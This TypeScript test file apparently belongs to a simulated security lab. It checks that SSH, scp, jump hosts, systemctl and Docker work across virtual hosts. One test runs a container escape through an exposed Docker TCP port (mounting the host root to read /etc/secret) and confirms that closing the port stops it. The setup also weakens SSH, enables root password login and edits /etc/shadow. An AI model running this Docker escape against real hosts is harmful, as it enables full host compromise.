import ssh2 from 'ssh2';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import type { SeedFile } from '../../cluster.ts';
import type { HostName } from '../../../protocol/host.ts';
import { impossible, startTestLab, whyNot, type TestLab } from '../hosts/host-fixture.ts';
import { realClock } from '../clock.ts';
import { IMAGES } from '../images/table.ts';
import { installedEntries } from '../installed.ts';
import { SupervisedSandboxes } from '../pods/supervised-sandboxes.ts';
import { makeSshHostKey } from './sshd/host-key.ts';
import { Journal } from './systemd/journal.ts';
import { startDaemons, type Daemons } from './start-daemons.ts';

const hostKey = makeSshHostKey();
const key = ssh2.utils.generateKeyPairSync('rsa', { bits: 2048 });

const file = (host: HostName, path: string, text: string, mode = 0o644): SeedFile => ({
  host,
  path,
  content: Buffer.from(text),
  mode,
});
const OVERRIDE = '[Service]\nExecStart=\nExecStart=/usr/bin/dockerd\n';
const HOSTS: readonly HostName[] = ['workstation', 'node01', 'bastion', 'internet'];

describe.skipIf(impossible)(`daemons on the lab's real hosts${whyNot}`, () => {
  let lab: TestLab;
  let running: Daemons[];

  beforeAll(async () => {
    lab = await startTestLab(
      HOSTS,
      [
        file('workstation', '/root/.ssh/id_ed25519', key.private, 0o600),
        file(
          'workstation',
          '/root/.ssh/config',
          'Host *\n  StrictHostKeyChecking no\n  UserKnownHostsFile /dev/null\n  LogLevel ERROR\n',
          0o600,
        ),
        file('node01', '/root/.ssh/authorized_keys', `${key.public}\n`, 0o600),
        file('node01', '/etc/docker/daemon.json', '{"hosts": ["unix:///var/run/docker.sock", "tcp://0.0.0.0:2375"]}\n'),
        file('node01', '/etc/systemd/system/docker.service.d/override.conf', OVERRIDE),
        file('node01', '/etc/secret', 'flag\n'),
      ],
      installedEntries,
    );
    let id = 0;
    const ssh = { hostKey, newId: () => `ssh-${++id}` };
    const sandboxes = new SupervisedSandboxes(lab.set.supervisor);
    const docker = {
      images: IMAGES,
      present: ['alpine'],
      sandboxes: () => Promise.resolve(sandboxes),
      fault: () => undefined,
    };
    running = await Promise.all(
      HOSTS.map((name) =>
        startDaemons({
          host: lab.on(name),
          clock: realClock,
          journal: new Journal(realClock),
          ...(name === 'node01' || name === 'bastion' ? { ssh } : {}),
          ...(name === 'node01' ? { docker } : {}),
        }),
      ),
    );
  });
  afterAll(async () => {
    await Promise.all((running ?? []).map((daemons) => daemons[Symbol.asyncDispose]()));
    await lab?.[Symbol.asyncDispose]();
  });

  test('ssh logs in from another host, and the journal knows from where', async () => {
    expect(await lab.sh('workstation', 'ssh -n node01 "hostname; exit 3"')).toBe('node01 [status 3]');
    expect(await lab.sh('workstation', 'echo hello | ssh node01 cat')).toBe('hello');
    expect(await lab.sh('node01', 'journalctl -u ssh -o cat | grep Accepted')).toMatch(
      /^Accepted publickey for root from 10\.10\.0\.5 port \d+ ssh2/,
    );
  });

  test('a command that reloads and restarts sshd over ssh comes back to its caller', async () => {
    const line = `ssh -n node01 'systemctl reload ssh && systemctl restart ssh && echo still here' && ssh -n node01 hostname`;
    expect(await lab.sh('workstation', line)).toBe('still here\nnode01');
  });

  test('scp and sftp work where the machine has their server, and else say what does', async () => {
    const copied = await lab.sh(
      'workstation',
      'echo hi > /tmp/f; scp -q /tmp/f node01:/tmp/g; ssh -n node01 cat /tmp/g',
    );
    const server = await lab.sh('node01', 'test -x /usr/lib/openssh/sftp-server && echo there');
    expect(copied).toContain(server === 'there' ? 'hi' : 'not simulated: sftp');
    expect(await lab.sh('workstation', 'scp -qO /tmp/f node01:/tmp/h; ssh -n node01 cat /tmp/h')).toBe('hi');
  });

  test('input that comes late and output that never ends flow while the command runs', async () => {
    const line = [
      "coproc S { ssh node01 'head -n 1; tail -f /etc/hostname'; }",
      'echo late >&${S[1]}; read -r a <&${S[0]}; read -r b <&${S[0]}; echo "$a, $b"; kill $S_PID',
    ].join('; ');
    expect(await lab.sh('workstation', line)).toBe('late, node01');
  });

  test('a single command can have a terminal', async () => {
    const line = `script -qec "ssh -t node01 'tty; stty size'" /dev/null < /dev/null`;
    expect(await lab.sh('workstation', line)).toMatch(/\/dev\/pts\/\d+\r\n24 80/);
  });

  test('a command needs no end of its input', async () => {
    expect(await lab.sh('workstation', 'timeout 20 ssh node01 hostname < <(sleep 30)')).toBe('node01');
  });

  test('an interactive login has a terminal of its own', async () => {
    const line = `printf 'echo "at $(hostname) on $(tty)"; exit 4\n' | ssh -tt node01`;
    expect(await lab.sh('workstation', line)).toMatch(/at node01 on \/dev\/pts\/\d+\r\n[\s\S]*\[status 4\]$/);
  });

  test('a jump through the bastion is forwarded from the bastion', async () => {
    expect(await lab.sh('bastion', 'systemctl is-active ssh')).toBe('active');
    await lab.on('bastion').writeFile('/root/.ssh/authorized_keys', Buffer.from(key.public), { mode: 0o600 });
    expect(await lab.sh('workstation', 'ssh -n -J bastion node01 hostname')).toBe('node01');
    expect(await lab.sh('node01', 'journalctl -u ssh -o cat -n 1')).toContain('from 10.10.0.20 ');
  });

  test('systemctl, its symlinks and sshd -t work from the shell', async () => {
    expect(
      await lab.sh(
        'node01',
        'systemctl is-enabled docker; readlink /etc/systemd/system/multi-user.target.wants/docker.service',
      ),
    ).toBe('enabled\n/lib/systemd/system/docker.service');
    expect(
      await lab.sh(
        'node01',
        'echo Foo bar > /etc/ssh/sshd_config.d/x.conf; sshd -t; rm /etc/ssh/sshd_config.d/x.conf; exit 1',
      ),
    ).toContain('[status 1]');
    expect(await lab.sh('node01', 'systemctl reload ssh && systemctl status ssh | sed -n 3p')).toContain(
      'Active: active (running)',
    );
  });

  test("Docker's open port gives the node away, until it is closed", async () => {
    const attack = 'docker -H tcp://10.10.0.11:2375 run --rm -v /:/host alpine chroot /host cat /etc/secret';
    expect(await lab.sh('internet', attack)).toBe('flag');
    expect(await lab.sh('node01', 'curl -s --unix-socket /var/run/docker.sock http://d/_ping')).toBe('OK');
    await lab.sh('node01', `sed -i 's|, "tcp://0.0.0.0:2375"||' /etc/docker/daemon.json; systemctl restart docker`);
    expect(await lab.sh('internet', attack)).toContain('Cannot connect to the Docker daemon at tcp://10.10.0.11:2375.');
    expect(await lab.sh('node01', 'docker ps')).toMatch(/^CONTAINER ID/);
  });

  test('passwords set by chpasswd on the host count', async () => {
    await lab.sh(
      'node01',
      `echo 'PermitRootLogin yes' > /etc/ssh/sshd_config && systemctl restart ssh && usermod -p "$(openssl passwd -6 hunter2)" root || sed -i "s|^root:[^:]*|root:$(openssl passwd -6 hunter2)|" /etc/shadow`,
    );
    const askpass = `printf '#!/bin/sh\\necho hunter2\\n' > /tmp/ask; chmod +x /tmp/ask; SSH_ASKPASS=/tmp/ask SSH_ASKPASS_REQUIRE=force ssh -n -o PubkeyAuthentication=no root@node01 hostname`;
    expect(
      await lab.sh(
        'bastion',
        `mkdir -p ~/.ssh; printf 'Host *\\n StrictHostKeyChecking no\\n LogLevel ERROR\\n' > ~/.ssh/config; ${askpass}`,
      ),
    ).toBe('node01');
  });
});
